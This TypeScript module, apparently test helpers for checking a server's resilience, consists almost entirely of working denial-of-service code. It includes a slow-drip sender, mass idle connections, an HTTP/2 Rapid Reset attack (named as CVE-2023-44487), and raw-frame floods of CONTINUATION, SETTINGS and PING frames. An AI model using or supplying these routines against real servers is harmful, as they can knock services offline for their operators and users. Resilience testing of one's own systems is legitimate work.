import { once } from 'node:events'
import { connect as connectHttp2, constants } from 'node:http2'
import { connect, type Socket } from 'node:net'

/** A raw connection to `host:port`, once it stands. */
export async function openConnection(address: string): Promise<Socket> {
  const { hostname, port } = new URL(`tcp://${address}`)
  const socket = connect(Number(port), hostname)
  // A reset is an answer here, and `close` follows it.
  socket.on('error', () => undefined)
  await once(socket, 'connect')
  return socket
}

/** Sends `head`, then `drip` once a second, until the server ends the connection. Returns what it answered. */
export async function dripUntilClosed(address: string, head: string, drip: string): Promise<string> {
  const socket = await openConnection(address)
  let answer = ''
  socket.on('data', (chunk) => {
    answer += String(chunk)
  })
  socket.write(head)
  const timer = setInterval(() => socket.writable && socket.write(drip), 1000)
  await once(socket, 'close').finally(() => clearInterval(timer))
  return answer
}

/** Connections that say nothing. */
export async function idleConnections(
  address: string,
  count: number,
): Promise<Disposable & { open(): number }> {
  const sockets: Socket[] = []
  for (let n = 0; n < count; n += 100)
    sockets.push(...(await Promise.all(Array.from({ length: 100 }, () => openConnection(address)))))
  // Unread, what the server said would hide that it has hung up.
  for (const socket of sockets) socket.resume()
  return {
    open: () => sockets.filter(({ closed, destroyed }) => !closed && !destroyed).length,
    [Symbol.dispose]() {
      for (const socket of sockets) socket.destroy()
    },
  }
}

/** Opens calls on one HTTP/2 connection and takes each back at once (CVE-2023-44487). Returns how many went out. */
export async function rapidReset(
  address: string,
  path: string,
  headers: Record<string, string>,
  count: number,
) {
  const session = connectHttp2(`http://${address}`)
  session.on('error', () => undefined)
  await once(session, 'connect')
  let sent = 0
  for (; sent < count && !session.closed && !session.destroyed; sent++) {
    const stream = session.request({ ':method': 'POST', ':path': path, ...headers })
    stream.on('error', () => undefined)
    stream.close(constants.NGHTTP2_CANCEL)
    if (sent % 200 === 199) await new Promise((resolve) => setImmediate(resolve))
  }
  session.destroy()
  return sent
}

/** Until there is room again, or nobody to write to. */
function written(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    socket.once('drain', resolve)
    socket.once('close', () => resolve())
  })
}

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const FRAME = { headers: 1, settings: 4, ping: 6, continuation: 9 } as const

/** An HTTP/2 frame without flags. */
function frame(type: keyof typeof FRAME, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(FRAME[type], 3)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** Sends frames of one kind until the server ends the connection, at most `count`. Returns how many went out. */
export async function frameFlood(address: string, kind: 'continuation' | 'settings' | 'ping', count: number) {
  const socket = await openConnection(address)
  socket.resume()
  socket.write(PREFACE)
  socket.write(frame('settings', 0, Buffer.alloc(0)))
  // A literal header without indexing: its name and its value are 8,000 bytes together.
  const header = Buffer.concat([Buffer.from([0, 1, 0x78, 0x7f, 0xb9, 0x3d]), Buffer.alloc(8000, 0x61)])
  const one = {
    continuation: frame('continuation', 1, header),
    settings: frame('settings', 0, Buffer.from([0, 3, 0, 0, 0, 1])),
    ping: frame('ping', 0, Buffer.alloc(8)),
  }[kind]
  if (kind === 'continuation') socket.write(frame('headers', 1, header))
  let sent = 0
  for (; sent < count && socket.writable; sent++) if (!socket.write(one)) await written(socket)
  socket.destroy()
  return sent
}
